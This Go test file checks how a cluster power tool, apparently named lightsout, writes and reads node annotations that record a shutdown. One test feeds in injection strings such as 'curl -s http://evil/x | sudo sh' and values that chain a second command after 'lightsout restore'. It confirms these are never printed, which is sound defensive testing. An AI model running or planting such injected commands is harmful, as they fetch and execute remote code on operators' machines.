package power

import (
	"os"
	"slices"
	"strings"
	"testing"
	"time"
)

// A note that somebody wrote by hand, or that another program did, says when it
// was written or that it does not.
func TestANoteWithoutATimeShowsAnUnknownTime(t *testing.T) {
	if said := apart("held for the technician")[0].String(); strings.Contains(said, "0001") || !strings.Contains(said, "held for the technician at an unknown time") {
		t.Error(said)
	}
}

// A node that was switched off with another state folder, and is back by hand,
// has a note that nobody of those who see it wrote: it does not count.
// Whoever controls a node can write its annotation: lightsout prints no command of theirs.
func TestANoteNamesOnlyCommandsOfLightsout(t *testing.T) {
	const own = `KUBECONFIG=/a:/b lightsout restore --config '/home/bob/my cluster/it'\''s.yaml' --context admin@lab --state /var/lib/lightsout`
	for _, by := range []string{"bob@bastion-1", "jürgen+ops@höst"} { // as the host names them
		for _, back := range []string{own, "lightsout restore"} {
			if text := (Note{By: by, At: time.Now(), Back: back + ", by " + by}).String(); !strings.Contains(text, "bring it back: "+back+")") {
				t.Errorf("a note of lightsout's own: %q", text)
			}
		}
	}
	for _, back := range []string{
		"curl -s http://evil/x | sudo sh #", "lightsout restore; curl http://evil", "lightsout restore $(curl evil)", "lightsout restore, by bob; curl evil",
		"lightsout restore --config 'x' `curl evil`", "lightsout restore --state /x\ncurl evil", "lightsout restore --config x > /evil", "",
	} {
		if text := (Note{By: "bob@host", At: time.Now(), Back: back}).String(); strings.Contains(text, "evil") || !strings.Contains(text, "no command of lightsout; ask bob@host") {
			t.Errorf("%q: %q", back, text)
		}
	}
}

func TestANoteDoesNotOutliveTheTruth(t *testing.T) {
	for name, back := range map[string]func(w *modelWorld, v *vm){
		"booted again": func(_ *modelWorld, v *vm) {
			v.boot++
			time.Sleep(bootCounts)
		},
		"heard for longer than a shutdown takes": func(*modelWorld, *vm) {
			time.Sleep(CarriedOutWithin)
		},
	} {
		t.Run(name, func(t *testing.T) {
			inModel(t, func(t *testing.T, m *model, p *program) {
				other := m.programs[2]
				if err := other.switcher.Switch(t.Context(), Request{Action: ActionOff, Nodes: []string{"n1"}}, &yes{p: other}); err != nil {
					t.Fatal(err)
				}
				other.stop() // and never comes back
				p.w.mu.Lock()
				v := p.w.vms["n1"]
				v.on, v.since, v.ours = true, time.Now(), false
				p.w.mu.Unlock()
				time.Sleep(readyAfterBoot)
				view, _ := p.State(t.Context())
				if others := p.switcher.Sweep(view.Nodes); len(others) != 1 || others[0].Node != "n1" {
					t.Errorf("before it is proven: %v", others)
				}
				back(p.w, v)
				time.Sleep(time.Second)
				q, err := p.switcher.Preview(t.Context(), Request{Action: ActionOff, Nodes: []string{"n1"}})
				if err != nil || worst(q.Findings) == Override || q.Left != 3 {
					t.Errorf("%v, %+v, %d left", err, q.Findings, q.Left)
				}
				view, _ = p.State(t.Context())
				if others := p.switcher.Sweep(view.Nodes); len(others) > 0 || p.w.annotations["n1"] != "" {
					t.Errorf("noted by %v, the node by %v", others, p.w.annotations["n1"])
				}
				m.programs[2] = m.start(2)
			})
		})
	}
}

// When a journal is lost, only the notes name the machines that it had switched off, and
// they do not belong to the journal that replaces it.
func TestANoteOutlivesTheJournal(t *testing.T) {
	inModel(t, func(t *testing.T, m *model, p *program) {
		if err := p.switcher.Switch(t.Context(), Request{Action: ActionOff, Nodes: []string{"n1"}}, &yes{p: p}); err != nil {
			t.Fatal(err)
		}
		p.stop()
		if err := os.Remove(p.journal.Path()); err != nil {
			t.Fatal(err)
		}
		p = m.start(0)
		m.programs[0] = p
		for range 2 {
			view, _ := p.State(t.Context())
			if others := p.switcher.Sweep(view.Nodes); len(others) != 1 || others[0].Node != "n1" || p.w.annotations["n1"] == "" {
				t.Errorf("noted: %v; on the node: %v", others, p.w.annotations["n1"])
			}
		}
		time.Sleep(2 * arrivesWithin)
		if err := p.switcher.Switch(t.Context(), Request{Action: ActionOn, Nodes: []string{"n1"}}, &yes{p: p}); err != nil {
			t.Fatal(err)
		}
		if p.w.annotations["n1"] != "" {
			t.Errorf("it is back, and noted: %v", p.w.annotations["n1"])
		}
	})
}

// Who powers on what another has switched off takes the note off.
func TestWhoBringsItBackTakesTheNoteOff(t *testing.T) {
	inModel(t, func(t *testing.T, m *model, p *program) {
		other := m.programs[2]
		if err := other.switcher.Switch(t.Context(), Request{Action: ActionOff, Nodes: []string{"n1"}}, &yes{p: other}); err != nil {
			t.Fatal(err)
		}
		if p.w.annotations["n1"] == "" {
			t.Fatal("no note")
		}
		time.Sleep(time.Minute)
		if err := p.switcher.Switch(t.Context(), Request{Action: ActionOn, Nodes: []string{"n1"}}, &yes{p: p}); err != nil {
			t.Fatal(err)
		}
		if m := p.w.annotations["n1"]; m != "" {
			t.Errorf("still noted: %v", m)
		}
	})
}

// A note contains the command that powers the machine on.
func TestANoteSaysHowToBringTheMachineBack(t *testing.T) {
	inModel(t, func(t *testing.T, _ *model, p *program) {
		p.switcher.Fleet.cfg.WayBack = "lightsout restore --state /here"
		if err := p.switcher.Switch(t.Context(), Request{Action: ActionOff, Nodes: []string{"n1"}}, &yes{p: p}); err != nil {
			t.Fatal(err)
		}
		mark := apart(p.w.annotations["n1"])[0]
		if want := "lightsout restore --state /here, by " + mark.By; mark.Back != want || mark.Boot != "one-n1-boot-1" {
			t.Errorf("%+v", mark)
		}
	})
}

// A node that boots while it is asked about is asked about again: the note would
// name the boot before, and be taken for over.
func TestABootSinceTheQuestionIsAskedAbout(t *testing.T) {
	one := bind("mdx", "mdx", "n1")
	one[0].Node.BootID = "boot-1"
	two := slices.Clone(one)
	two[0].Node.BootID = "boot-2"
	for _, c := range []struct {
		action Action
		now    []Binding
		want   int
	}{{ActionOff, one, 0}, {ActionOff, two, 1}, {ActionOn, two, 0}} {
		r := Request{Action: c.action, Nodes: []string{"n1"}}
		if got := worse(Question{Request: r, Bindings: one}, Question{Request: r, Bindings: c.now}); len(got) != c.want {
			t.Errorf("%s: %v", c.action, got)
		}
	}
}

func FuzzNotes(f *testing.F) {
	one := Note{By: "a", ID: "1"}
	f.Add(together([]Note{one, {By: "b"}}))
	f.Add(`[{"by":"a"},{},7]`)
	f.Fuzz(func(t *testing.T, text string) {
		all := apart(text)
		if again := apart(together(all)); !slices.Equal(all, again) {
			t.Errorf("%q: %+v, then %+v", text, all, again)
		}
	})
}
